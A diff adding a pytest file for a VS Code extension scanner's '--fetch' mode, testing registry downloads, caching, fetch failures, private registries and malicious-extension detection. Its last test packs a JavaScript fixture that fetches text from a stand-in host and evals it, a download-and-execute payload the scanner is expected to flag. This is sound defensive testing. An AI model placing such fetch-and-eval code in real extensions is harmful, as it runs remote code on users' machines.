@@ -1,0 +1,127 @@
+"""``--fetch``: what is only named is fetched, analysed as if it were here, and never green without."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.builders import pack
+from tests.command import Result, scan, vscan
+from tests.registry import Fault, Published, Registry, published
+
+NAMES = [f"acme.tool-{number}" for number in range(1, 21)]
+VOLATILE = {"origins", "path", "fetched", "in_index"}
+
+
+def named(home: Path, *names: str, url: str = "", **options: str) -> Result:
+    """Scan names offline, without a cache of verdicts in the way of the comparison."""
+    arguments = [*names, "--offline", *(["--fetch", url] if url else [])]
+    return scan(home, *arguments, VSCAN_SOURCE=None, **options)
+
+
+def comparable(report: dict[str, Any]) -> list[dict[str, Any]]:
+    """Give what is said of each extension, without where it is from and when it was analysed."""
+    return [
+        {key: value for key, value in each.items() if key not in VOLATILE}
+        | {"verdicts": [verdict | {"analysed_at": None} for verdict in each["verdicts"]]}
+        for each in report["extensions"]
+    ]
+
+
+@pytest.mark.parametrize("protocol", ["gallery", "open-vsx"])
+def test_what_is_fetched_is_judged_as_the_same_archives_are(tmp_path: Path, protocol: str) -> None:
+    table = [published(name) for name in NAMES]
+    for each in table:
+        (tmp_path / f"{each.id}.vsix").write_bytes(each.content)
+    here = scan(
+        tmp_path, *sorted(tmp_path.glob("*.vsix")), "--offline", "--no-cache", VSCAN_SOURCE=None
+    )
+    with Registry(table) as registry:
+        url = registry.gallery_url if protocol == "gallery" else registry.url
+        fetched = named(tmp_path, *NAMES, url=url)
+    assert (here.code, fetched.code) == (0, 0), fetched.err
+    assert comparable(fetched.report) == comparable(here.report)
+    facts = [each["fetched"] for each in fetched.report["extensions"]]
+    assert {each["registry"] for each in facts} == {url}
+    assert {each["integrity"] for each in facts} <= {"digest", "signed-unpinned"}
+
+
+def test_a_second_run_downloads_nothing(tmp_path: Path) -> None:
+    with Registry([published(name) for name in NAMES]) as registry:
+        first = named(tmp_path, *NAMES, url=registry.gallery_url)
+        assert [step for step, _ in registry.seen].count("download") == len(NAMES)
+        registry.seen.clear()
+        second = named(tmp_path, *NAMES, url=registry.gallery_url)
+        assert [step for step, _ in registry.seen] == ["query"]
+    assert (first.code, second.code) == (0, 0)
+    assert second.stats["cached"] == len(NAMES)
+    assert second.stats["requests"] == 1
+
+
+def test_without_fetch_nothing_is_asked_and_nothing_is_green(tmp_path: Path) -> None:
+    with Registry([published("acme.tools")]) as registry:
+        done = named(tmp_path, "acme.tools")
+        assert registry.seen == []
+    assert done.code == 3
+    assert "its bytes are not here" in done.err
+
+
+def test_a_known_malicious_id_fails_without_its_bytes(tmp_path: Path) -> None:
+    done = named(tmp_path, "zhukunpeng.chat-moss")
+    assert done.code == 1, done.err
+
+
+@pytest.mark.parametrize("kind", ["block-page", "truncated", "other-id", 503])
+def test_what_can_not_be_fetched_fails_by_name_and_the_others_are_whole(
+    tmp_path: Path, kind: str | int
+) -> None:
+    table = [published(name) for name in ("acme.bad", "acme.good")]
+    with Registry(table, Fault(kind, "acme.bad", "download")) as registry:
+        done = named(tmp_path, "acme.bad", "acme.good", url=registry.gallery_url)
+    assert done.code == 3
+    status = {each["id"]: each["status"] for each in done.report["extensions"]}
+    assert status == {"acme.bad": "failed", "acme.good": "scanned"}
+    (failure,) = done.report["failed_extensions"]
+    assert (failure["id"], failure["source"]) == ("acme.bad", registry.gallery_url)
+
+
+def test_an_id_that_no_registry_knows_is_said_to_be_unclaimed(tmp_path: Path) -> None:
+    with Registry([published("acme.tools")]) as registry:
+        done = named(tmp_path, "acme.nobody", url=registry.gallery_url)
+    assert done.code == 3
+    (extension,) = done.report["extensions"]
+    assert [each["rule"] for each in extension["findings"]] == ["unclaimed-id"]
+    assert extension["unknown_to"] == [registry.gallery_url]
+
+
+def test_private_ids_go_to_private_registries_alone(tmp_path: Path) -> None:
+    with Registry([published("corp.a")]) as public, Registry([published("corp.a")]) as own:
+        named(tmp_path, "corp.a", url=public.gallery_url, VSCAN_PRIVATE="corp.*")
+        assert public.seen == []
+        done = named(
+            tmp_path,
+            "corp.a",
+            url=public.gallery_url,
+            VSCAN_PRIVATE="corp.*",
+            VSCAN_FETCH_PRIVATE=own.gallery_url,
+        )
+        assert public.seen == []
+    assert done.code == 0, done.err
+
+
+def test_a_dry_run_names_the_registries_and_asks_none(tmp_path: Path) -> None:
+    with Registry([published("acme.tools")]) as registry:
+        done = vscan(
+            tmp_path, "scan", "acme.tools", "--offline", "--dry-run", "--fetch", registry.url,
+            VSCAN_SOURCE=None,
+        )  # fmt: skip
+        assert registry.seen == []
+    assert f"fetched by its name from {registry.url}" in done.out
+
+
+def test_a_malicious_archive_is_found(tmp_path: Path) -> None:
+    code = "const cp=require('child_process');fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t));"
+    path = pack(tmp_path, "acme.evil", main="./main.js", files={"main.js": code})
+    with Registry([Published("acme.evil", "1.0.0", path.read_bytes())]) as registry:
+        done = named(tmp_path, "acme.evil", url=registry.gallery_url)
+    assert done.code == 1, done.err
